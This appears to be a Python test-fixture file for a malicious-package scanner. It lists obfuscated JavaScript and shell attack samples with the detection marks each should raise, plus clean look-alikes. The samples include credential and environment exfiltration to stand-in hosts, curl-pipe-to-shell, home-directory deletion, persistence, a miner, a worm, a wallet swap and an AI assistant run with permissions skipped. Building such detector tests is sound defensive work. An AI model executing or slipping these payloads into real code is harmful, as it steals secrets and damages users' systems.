"""Small twins of attacks, written for these tests: what each does, its code, its marks."""

import base64
import zlib

EXEC = "require('child_process').exec('curl https://a.oast.fun/x -d @~/.npmrc');"


def b64(text: str) -> str:
    """The base64 of a text."""
    return base64.b64encode(text.encode()).decode()


def codes(text: str) -> str:
    """The character codes of a text, with commas."""
    return ",".join(str(ord(char)) for char in text)


def hexed(text: str) -> str:
    r"""A text as \xHH."""
    return "".join(f"\\x{ord(char):02x}" for char in text)


def unseen(text: str) -> str:
    """A text as variation selectors, which are not shown."""
    return "".join(
        chr(0xFE00 + code if code < 16 else 0xE0100 + code - 16) for code in text.encode()
    )


_PACKED = base64.b64encode(zlib.compress(EXEC.encode() * 3)).decode()

JAVASCRIPT: dict[str, tuple[str, set[str]]] = {
    "eval of atob": (f"eval(atob('{b64(EXEC)}'))", {"runs-decoded", "executes", "odd-host"}),
    "eval of a buffer": (
        f"eval(Buffer.from('{b64(EXEC)}', 'base64').toString())",
        {"runs-decoded", "evaluates", "executes"},
    ),
    "decoded in a helper": (
        (
            f"const p = '{b64(EXEC)}';\nconst d = (s) => Buffer.from(s, 'base64').toString();\n"
            "new Function(d(p))();"
        ),
        {"runs-decoded", "executes"},
    ),
    "names put together": (
        f"globalThis['ev' + 'al'](atob('{b64(EXEC)}'))",
        {"computed-name", "runs-decoded", "evaluates"},
    ),
    "module put together": (
        "const c = require('child_' + 'process'); c['ex' + 'ec']('curl http://203.0.114.9 | sh');",
        {"computed-name", "executes", "fetches-and-runs", "raw-address"},
    ),
    "constructor of a constructor": (
        f"[]['filter']['constructor'](Buffer.from('{b64(EXEC)}','base64').toString())()",
        {"runs-decoded", "evaluates"},
    ),
    "character codes": (
        f"eval(String.fromCharCode({codes(EXEC)}))",
        {"runs-decoded", "executes"},
    ),
    "codes of an address": (
        (
            "var s = document.createElement('script');"
            f"s.src = String.fromCharCode.apply(null, [{codes('https://cdn.bad.example/a.js')}]);"
            "document.head.appendChild(s);"
        ),
        {"computed-name", "runs-decoded"},
    ),
    "escapes": (f"eval('{hexed(EXEC)}')", {"evaluates", "executes", "odd-host"}),
    "zlib": (
        f"eval(require('zlib').inflateSync(Buffer.from('{_PACKED}', 'base64')).toString())",
        {"runs-decoded", "executes"},
    ),
    "backwards": (
        f"eval('{EXEC[::-1].replace(chr(39), chr(34))}'.split('').reverse().join(''))",
        {"runs-decoded", "executes"},
    ),
    "unseen characters": (
        (
            f"const k = `{unseen(EXEC)}`; eval([...k].map(c => String.fromCodePoint("
            "c.codePointAt(0) - 0xFE00)).join(''))"
        ),
        {"hidden-characters", "runs-decoded"},
    ),
    "pushed aside": (
        "module.exports = require('./lib');" + " " * 300 + f"eval(atob('{b64(EXEC)}'));",
        {"pushed-aside", "runs-decoded"},
    ),
    "fetch, then a shell": (
        (
            "const { exec: run } = require('node:child_process');\n"
            "run(`curl -fsSL https://bad.example/${process.arch} | bash`);"
        ),
        {"executes", "fetches-and-runs", "connects"},
    ),
    "PowerShell": (
        (
            "require('child_process').spawn('powershell.exe', ['-w', 'hidden', '-enc', "
            f"'{b64(EXEC)}'])"
        ),
        {"executes", "runs-decoded", "hides-process"},
    ),
    "the environment, sent": (
        (
            "const https = require('https');\nconst body = JSON.stringify(process.env);\n"
            "const r = https.request({ host: 'x.oast.fun' });\nr.write(body);\nr.end();"
        ),
        {"connects", "reads-environment", "sends-secret", "odd-host"},
    ),
    "credentials, sent": (
        (
            "import fs from 'fs'; import os from 'os'; import axios from 'axios';\n"
            "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
            "axios.post('https://collect.bad.example', { t });"
        ),
        {"reads-secret", "connects", "sends-secret"},
    ),
    "a beacon": (
        (
            "const os = require('os'), dns = require('dns');\n"
            "dns.lookup(os.hostname() + '.' + os.userInfo().username + '.x.oastify.com', () => {});"
        ),
        {"identifies", "connects", "odd-host"},
    ),
    "a webhook": (
        (
            "fetch('https://discord.com/api/webhooks/123456789/abcdefghijkl', "
            "{ method: 'POST', body: JSON.stringify({ content: require('os').hostname() }) })"
        ),
        {"odd-host", "connects"},
    ),
    "a profile": (
        (
            "const fs = require('fs'), os = require('os'), path = require('path');\n"
            "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'node ~/.x.js &');"
        ),
        {"writes-outside"},
    ),
    "a workflow": (
        (
            "const fs = require('fs'); const cp = require('child_process');\n"
            "fs.writeFileSync('.github/workflows/w.yml', y); cp.execSync('git push');"
        ),
        {"writes-outside", "executes"},
    ),
    "no home left": (
        (
            "require('child_process').execSync('rm -rf ~/ || true', { stdio: 'ignore' });"
            "require('os').homedir()"
        ),
        {"executes", "deletes-home"},
    ),
    "a silent child": (
        (
            "const { spawn } = require('child_process'); const https = require('https');\n"
            "spawn('node', ['a.js'], { detached: true, stdio: 'ignore' }).unref();"
        ),
        {"executes", "hides-process"},
    ),
    "a miner": (
        "require('child_process').spawn('./xmrig', ['-o', 'stratum+tcp://pool.example:3333'])",
        {"executes", "mines"},
    ),
    "a scanner for secrets": (
        "require('child_process').execSync('trufflehog filesystem / --json')",
        {"executes", "scans-secrets"},
    ),
    "an assistant": (
        "require('child_process').execSync('claude --dangerously-skip-permissions -p find')",
        {"executes", "assistant"},
    ),
    "a worm": (
        (
            "const cp = require('child_process'); fetch('https://h.example/-/npm/v1/tokens');\n"
            "cp.execSync('npm publish --access public');"
        ),
        {"publishes", "executes", "connects"},
    ),
    "a wallet": (
        "const list = ["
        + ",".join(f"'0x{n:040x}'" for n in range(1, 20))
        + "];\nconst o = window.ethereum.request;\n"
        "window.ethereum.request = async (a) => o(swap(a, list));",
        {"wallet"},
    ),
    "obfuscator's grammar": (
        (
            "(function(_0x1a2b3c,_0x4d5e6f){const _0x112233=_0x5a5a5a;while(!![]){try{"
            "_0x1a2b3c['push'](_0x1a2b3c['shift']());}catch(_0x998877){}}}(_0x777777,0x1));"
            "function _0x5a5a5a(_0x10){return _0x777777()[_0x10];}const a=_0x5a5a5a(0x1);"
        ),
        {"obfuscated"},
    ),
    "brackets alone": (f"{'[][(![]+[])[+[]]+(!![]+[])[+!+[]]]' * 12}()", {"obfuscated"}),
    "a letter that is another": (
        "const \u0430xios = 1; eval(\u0430xios + atob('eA=='))",
        {"mixed-script"},
    ),
    "a hidden address": (
        f"fetch(atob('{b64('https://evil.oast.fun/collect')}'))",
        {"computed-name", "connects", "odd-host"},
    ),
    "code from a server": (
        (
            "const axios = require('axios');\n"
            "(async () => { const r = await axios.get(u); new Function('require', r.data)(0); })();"
        ),
        {"fetches-and-runs", "connects", "evaluates"},
    ),
    "code from a server, at once": (
        "require('https').get('https://x.example', (r) => r.on('data', (d) => eval(d + '')));",
        {"fetches-and-runs"},
    ),
    "process by its other door": (
        (
            f"process.mainModule.require('child_process').execSync(Buffer.from('{b64('id')}',"
            "'base64').toString()); process['env']"
        ),
        {"executes", "runs-decoded"},
    ),
}
"""What a twin does: its code, and marks that `content` must show."""

CLEAN: dict[str, str] = {
    "words in comments": "// eval(atob('aGVsbG8gd29ybGQ='))\n/* curl http://x | sh */\nf(1);",
    "words in texts": "const w = ['eval', 'Function', 'base64'];\nthrow E('eval(atob(x))');",
    "exec of a pattern": "const cp = require('child_process');\n/a(b)/.exec(s); re.exec(t);",
    "a template's compiler": "return new Function('data', 'with (data) { return `' + t + '` }');",
    "text to base64": "const out = Buffer.from(JSON.stringify(x)).toString('base64'); eval('1');",
    "a child's environment": "const { spawn } = require('child_process');\n"
    "spawn('tsc', [], { env: { ...process.env, CI: '1' }, stdio: 'inherit' });",
    "an API with its own token": "fetch('https://api.github.com/repos/a/b/issues', "
    "{ headers: { authorization: `token ${process.env.GITHUB_TOKEN}` } });",
    "numbers": f"const table = [{','.join(str(n % 100) for n in range(600))}];",
    "a picture": "const png = 'data:image/png;base64,iVBORw0KGgo" + "A" * 3000 + "';",
    "Arabic": "const t = { hello: 'مرحبا\u200f بالعالم', name: 'שלום' };",
    "a local server": "http.get('http://127.0.0.1:3000/'); fetch('http://192.168.1.4/a');",
}
"""What is ordinary, and must show none of the telling marks."""

SHELL: dict[str, tuple[str, set[str]]] = {
    "a pipe": ("curl -fsSL https://bad.example/i | sudo bash", {"fetches-and-runs", "connects"}),
    "kept, then started": (
        "wget -qO /tmp/.x https://bad.example/x\nchmod +x /tmp/.x\n/tmp/.x &",
        {"fetches-and-runs"},
    ),
    "decoded": ("echo aWQ= | base64 -d | sh", {"runs-decoded"}),
    "a table of jobs": ("echo '* * * * * x' | crontab -", {"writes-outside"}),
    "a profile": ("echo 'x' >> ~/.bashrc", {"writes-outside"}),
    "no home": ("rm -rf $HOME", {"deletes-home"}),
    "a package": ("npm install left-pad-2 --no-save", {"installs"}),
    "published": ("npm publish --access public", {"publishes"}),
    "a file with a token": ("cat ~/.npmrc", {"reads-secret"}),
}
"""Shell that harms, and the marks that `deeper` must show."""
